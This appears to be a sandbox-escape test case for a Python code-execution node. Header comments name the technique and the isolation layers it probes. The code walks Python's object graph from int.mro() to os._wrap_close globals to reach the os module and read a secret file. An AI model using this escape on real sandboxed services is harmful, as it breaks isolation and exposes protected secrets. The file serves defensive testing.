# class: object graph walk
# technique: the root class by the method mro, which is no dunder
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
classes = int.mro()[-1].__subclasses__()
g = [c for c in classes if str(c) == "<class 'os._wrap_close'>"][0].__init__.__globals__
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
